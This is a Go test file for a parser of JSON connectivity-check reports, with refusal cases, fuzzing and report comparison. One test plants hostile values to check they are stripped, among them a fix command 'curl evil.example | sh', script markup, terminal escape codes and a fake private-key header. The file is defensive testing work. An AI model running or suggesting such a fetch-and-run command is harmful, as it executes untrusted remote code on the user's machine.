package doctor

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"onramp/fault"
)

// readsBack: what the engine makes, ParseReport takes, with the same answer. Every report of the laboratory
// goes through it.
func readsBack(t testing.TB, r Report) {
	t.Helper()
	text, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	back, err := ParseReport(text)
	if err != nil {
		t.Errorf("a report of the engine is refused: %s\n%s", fault.From(err).Cause, text)
		return
	}
	if back.Verdict.Code != r.Verdict.Code || back.Verdict.Level != r.Verdict.Level || back.Verdict.Stage != r.Verdict.Stage || back.Target.Leaf != r.Target.Leaf || !back.At.Equal(r.At) {
		t.Errorf("a report of the engine is read as %+v, was %+v", back.Verdict, r.Verdict)
	}
	for i, s := range back.Stages {
		if was := r.Stages[i]; s.Status != was.Status || len(s.Evidence) != len(was.Evidence) || !cmp.Equal(s.Findings, was.Findings) {
			t.Errorf("stage %s is read as %+v, was %+v", s.ID, s, was)
		}
	}
}

// reported is a whole report as JSON that a test may bend.
func reported(code string) map[string]any {
	r := Report{Schema: Schema, Rules: RulesDate, TestedFrom: "worker-1", TookMS: 12.5, At: time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC),
		Target: ReportTarget{Address: "orders.a1b2c.tmprl.cloud:7233", Namespace: "orders.a1b2c", ServerName: "orders.a1b2c.tmprl.cloud", Auth: "mtls", Leaf: strings.Repeat("ab", 32), Normalised: noRepairs}}
	r.Verdict = Explain(code, Certain, map[string]string{"namespace": "orders.a1b2c"})
	status := Pass
	for _, id := range StageIDs {
		s := Stage{ID: id, Status: status, MS: 1, Summary: "fine", Evidence: map[string]any{"seen": "x", "list": []string{"a"}, "n": 3}, Findings: []string{}}
		if id == r.Verdict.Stage {
			s.Status, s.Findings, status = Fail, []string{code}, NotReached
		}
		r.Stages = append(r.Stages, s)
	}
	text, _ := json.Marshal(r)
	var out map[string]any
	_ = json.Unmarshal(text, &out)
	return out
}

func at(m map[string]any, name string) map[string]any { return m[name].(map[string]any) }

func stage(m map[string]any, i int) map[string]any { return m["stages"].([]any)[i].(map[string]any) }

func TestParseReportRefuses(t *testing.T) {
	for name, bend := range map[string]func(map[string]any){
		"another schema":           func(m map[string]any) { m["schema"] = "onramp.check/2" },
		"no schema":                func(m map[string]any) { delete(m, "schema") },
		"no stages":                func(m map[string]any) { delete(m, "stages") },
		"nine stages":              func(m map[string]any) { m["stages"] = m["stages"].([]any)[1:] },
		"a stage twice":            func(m map[string]any) { stage(m, 1)["id"] = "input" },
		"a stage of another name":  func(m map[string]any) { stage(m, 1)["id"] = "<script>" },
		"a running stage":          func(m map[string]any) { stage(m, 1)["status"] = "running" },
		"a status of its own":      func(m map[string]any) { stage(m, 1)["status"] = "excellent" },
		"passed after it failed":   func(m map[string]any) { stage(m, 9)["status"] = "pass" },
		"not reached before":       func(m map[string]any) { stage(m, 2)["status"] = "not-reached" },
		"OK with a failed stage":   func(m map[string]any) { at(m, "verdict")["code"] = "OK" },
		"fault at another stage":   func(m map[string]any) { at(m, "verdict")["stage"] = "dns" },
		"fault without a stage":    func(m map[string]any) { at(m, "verdict")["stage"] = "" },
		"a code of its own":        func(m map[string]any) { at(m, "verdict")["code"] = "<b>X</b>" },
		"certainly unknown":        func(m map[string]any) { at(m, "verdict")["code"] = "unknown" },
		"unknown and known":        func(m map[string]any) { at(m, "verdict")["level"] = "unknown" },
		"a level of its own":       func(m map[string]any) { at(m, "verdict")["level"] = "absolutely" },
		"negative time":            func(m map[string]any) { m["took_ms"] = -1 },
		"endless time":             func(m map[string]any) { stage(m, 0)["ms"] = 1e300 },
		"time as a text":           func(m map[string]any) { stage(m, 0)["ms"] = "1" },
		"nested evidence":          func(m map[string]any) { at(stage(m, 0), "evidence")["x"] = map[string]any{"y": 1} },
		"a list in a list":         func(m map[string]any) { at(stage(m, 0), "evidence")["x"] = []any{[]any{"y"}} },
		"evidence with markup":     func(m map[string]any) { at(stage(m, 0), "evidence")["<b>"] = "y" },
		"evidence is null":         func(m map[string]any) { at(stage(m, 0), "evidence")["x"] = nil },
		"a finding with markup":    func(m map[string]any) { stage(m, 0)["findings"] = []any{"<b>"} },
		"nowhere":                  func(m map[string]any) { m["tested_from"] = " " },
		"rules of no month":        func(m map[string]any) { m["rules"] = "tomorrow" },
		"a time that is none":      func(m map[string]any) { m["at"] = "yesterday" },
		"another way to sign in":   func(m map[string]any) { at(m, "target")["auth"] = "magic" },
		"a fingerprint of markup":  func(m map[string]any) { at(m, "target")["leaf_sha256"] = "<b>" },
		"too many repairs":         func(m map[string]any) { at(m, "target")["normalised"] = make([]map[string]any, 17) },
		"too many candidates":      func(m map[string]any) { at(m, "verdict")["candidates"] = make([]map[string]any, 17) },
		"a repair's code is wrong": func(m map[string]any) { at(m, "target")["normalised"] = []any{map[string]any{"code": "<b>"}} },
	} {
		m := reported("CL-03")
		bend(m)
		text, _ := json.Marshal(m)
		if _, err := ParseReport(text); !fault.Is(err, fault.Invalid) || fault.From(err).Cause == "" {
			t.Errorf("%s: %v", name, err)
		}
	}
	good, _ := json.Marshal(reported("OK"))
	for name, text := range map[string]string{
		"nothing": "", "blank": " \n", "HTML": "<html>", "a list": "[]", "null": "null", "two": string(good) + string(good),
		"cut off": string(good[:len(good)-1]), "not UTF-8": "{\"schema\":\"\xff\"}", "a text": `"onramp.check/1"`,
		"deep": strings.Repeat("[", 60000),
	} {
		if _, err := ParseReport([]byte(text)); !fault.Is(err, fault.Invalid) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := ParseReport([]byte(strings.Repeat(" ", MaxReport) + string(good))); !fault.Is(err, fault.TooLarge) {
		t.Errorf("huge: %v", err)
	}
}

// What a report says of itself is shown harmless, and its advice is ours.
func TestParseReportTrustsNoText(t *testing.T) {
	const evil = "\x1b[31m<script>canary()</script>\u202e"
	m := reported("CL-03")
	m["tested_from"], m["future"] = "worker"+evil, map[string]any{"x": evil}
	m["not_checked"] = []any{"which CAs" + evil}
	v := at(m, "verdict")
	v["title"], v["cause"], v["not_wrong"], v["confirm"], v["unseen"] = "canary", "canary", "canary", "canary", "canary"
	v["fix"] = []any{map[string]any{"who": "developer", "text": "canary", "command": "curl evil.example | sh"}}
	v["candidates"] = []any{map[string]any{"code": "CH-01", "why": "canary"}, map[string]any{"code": "ZZ-99", "why": "canary"}}
	at(stage(m, 0), "evidence")["key"] = "-----BEGIN PRIVATE KEY-----\nc4nary"
	stage(m, 0)["summary"] = strings.Repeat("A", 5000) + evil
	text, _ := json.Marshal(m)
	r, err := ParseReport(append([]byte("\ufeff \r\n"), text...))
	if err != nil {
		t.Fatal(fault.From(err).Cause)
	}
	out, _ := json.Marshal(r)
	for _, bad := range []string{"canary\"", "evil.example", "c4nary", "\\u001b", "\u202e", "future", "ZZ-99"} {
		if strings.Contains(string(out), bad) {
			t.Errorf("%q came through: %s", bad, out)
		}
	}
	ours := Explain("CL-03", Certain, map[string]string{"address": "orders.a1b2c.tmprl.cloud:7233", "namespace": "orders.a1b2c", "server_name": "orders.a1b2c.tmprl.cloud"})
	if !cmp.Equal(r.Verdict.Fix, ours.Fix) || r.Verdict.Title != ours.Title || len(r.Verdict.Candidates) != 1 {
		t.Errorf("the advice is not the catalogue's: %+v", r.Verdict)
	}
	if len(r.Stages[0].Summary) > 1000 {
		t.Errorf("a summary of %d bytes is kept", len(r.Stages[0].Summary))
	}
	m = reported("OK")
	text, _ = json.Marshal(m)
	if r, err = ParseReport(text); err != nil || r.Verdict.Code != OK || r.Target.Leaf == "" || r.At.IsZero() {
		t.Errorf("a whole report: %+v, %v", r, err)
	}
	stage(m, 9)["status"] = "fail" // a newer Onramp names a fault that we do not know
	v = at(m, "verdict")
	v["code"], v["stage"] = "TQ-77", "task-queue"
	text, _ = json.Marshal(m)
	if r, err = ParseReport(text); err != nil || r.Verdict.Code != "TQ-77" || ExitCode(r.Verdict) != 15 || len(r.Verdict.Fix) != 0 {
		t.Errorf("a code of the future: %+v, %v", r.Verdict, err)
	}
}

// Reading is bounded, never panics, and reading what was read changes nothing.
func FuzzParseReport(f *testing.F) {
	for _, code := range []string{"OK", "CL-03", "DN-01"} {
		text, _ := json.Marshal(reported(code))
		f.Add(text)
	}
	f.Add([]byte(`{"schema":"onramp.check/1","stages":[{}]}`))
	f.Fuzz(func(t *testing.T, text []byte) {
		r, err := ParseReport(text)
		if err != nil {
			return
		}
		one, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		if len(one) > 8*MaxReport {
			t.Fatalf("%d bytes became %d", len(text), len(one))
		}
		if len(one) > MaxReport {
			return
		}
		again, err := ParseReport(one)
		if err != nil {
			t.Fatalf("what was read is refused: %v\n%s", fault.From(err).Cause, one)
		}
		two, _ := json.Marshal(again)
		if string(one) != string(two) {
			t.Fatalf("reading again changes it:\n%s\n%s", one, two)
		}
	})
}

func TestCompare(t *testing.T) {
	read := func(code string) Report {
		text, _ := json.Marshal(reported(code))
		r, err := ParseReport(text)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	place := func(s string) string { return "[" + s + "]" }
	for _, tt := range []struct{ before, after, want string }{
		{"OK", "OK", "Both passed."},
		{"CL-03", "OK", "Now passes at [client-cert]; before: CL-03."},
		{"OK", "DN-01", "Now fails at [dns] with DN-01; before, all passed."},
		{"CL-03", "CL-03", "Still stops at [client-cert]: CL-03."},
		{"CL-03", "CL-05", "Still stops at [client-cert], now with CL-05; before: CL-03."},
		{"DN-01", "CL-03", "Now passes at [dns] and stops later, at [client-cert]: CL-03; before: DN-01."},
		{"CL-03", "DN-01", "Now stops earlier, at [dns]: DN-01; before: CL-03 at [client-cert]."},
	} {
		if got := Compare(read(tt.before), read(tt.after), place).Summary; got != tt.want {
			t.Errorf("%s then %s: %q, want %q", tt.before, tt.after, got, tt.want)
		}
	}
	a, b := read("CL-03"), read("OK")
	b.Target.Leaf, b.TestedFrom = strings.Repeat("cd", 32), "worker-2"
	b.Stages[0].Evidence = map[string]any{"seen": "y", "n": 3.0, "more": true}
	b.Stages[2].MS = 99
	d := Compare(a, b, place)
	want := []Change{{"leaf_sha256", strings.Repeat("ab", 32), strings.Repeat("cd", 32)}, {"tested_from", "worker-1", "worker-2"}}
	if diff := cmp.Diff(want, d.Inputs); diff != "" {
		t.Errorf("inputs (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(StageDiff{ID: "input", Changed: true, Before: Pass, After: Pass, BeforeMS: 1, AfterMS: 1, New: []string{}, Gone: []string{},
		Evidence: []Change{{"list", `["a"]`, ""}, {"more", "", "true"}, {"seen", "x", "y"}}}, d.Stages[0]); diff != "" {
		t.Errorf("stage input (-want +got):\n%s", diff)
	}
	if d.Stages[2].Changed || d.Stages[2].AfterMS != 99 {
		t.Errorf("time alone is no change: %+v", d.Stages[2])
	}
	if s := d.Stages[6]; !s.Changed || s.Before != Fail || s.After != Pass || !cmp.Equal(s.Gone, []string{"CL-03"}) {
		t.Errorf("the stage that passes now: %+v", s)
	}
	if s := d.Stages[9]; s.Before != NotReached || s.After != Pass || len(d.Stages) != 10 {
		t.Errorf("a stage that was not reached: %+v", s)
	}
}
